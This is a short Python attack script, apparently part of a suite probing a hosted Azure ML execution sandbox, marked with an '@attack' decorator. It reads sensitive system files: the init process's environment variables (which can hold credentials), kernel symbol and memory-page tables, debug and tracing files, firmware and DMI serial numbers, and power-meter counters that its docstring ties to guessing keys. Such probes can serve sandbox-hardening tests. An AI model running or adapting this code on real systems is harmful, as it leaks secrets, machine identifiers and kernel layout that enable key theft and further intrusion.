"""Reads what tells of the machine and of everybody on it, and of its power use, by which keys were guessed."""

import glob

from attack import attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    names = [
        "keys",
        "timer_list",
        "sched_debug",
        "latency_stats",
        "scsi/scsi",
        "acpi/wakeup",
        "kpageflags",
        "kpagecount",
    ]
    names += ["1/maps", "1/environ", "1/stack", "vmallocinfo", "slabinfo", "pagetypeinfo", "kallsyms_all"]
    paths = [f"/proc/{name}" for name in names] + glob.glob("/sys/firmware/*/*")[:5]
    paths += glob.glob("/sys/devices/virtual/powercap/*/*/energy_uj") + glob.glob("/sys/kernel/debug/*")[:3]
    return every(read, paths + glob.glob("/sys/kernel/tracing/*")[:3] + glob.glob("/sys/class/dmi/id/*serial*"))
